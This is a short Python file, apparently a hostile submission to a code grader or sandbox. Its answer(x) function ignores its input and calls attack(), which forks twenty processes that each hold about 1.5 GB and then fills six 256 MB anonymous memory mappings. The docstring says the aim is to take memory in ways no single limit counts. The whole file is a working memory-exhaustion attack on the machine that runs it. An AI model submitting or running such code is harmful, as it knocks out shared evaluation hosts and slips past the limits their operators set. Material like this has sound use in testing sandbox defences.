"""Takes memory in ways that no single limit counts: many processes, mappings."""

import mmap
import os
import time


def attack():
    kept = []
    for _ in range(20):
        if os.fork() == 0:
            kept = [b"x" * 2**28 for _ in range(6)]
            time.sleep(1000)
    for _ in range(6):
        kept.append(mmap.mmap(-1, 2**28, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS))
        kept[-1].write(b"x" * 2**28)
    time.sleep(1000)


def answer(x):
    attack()
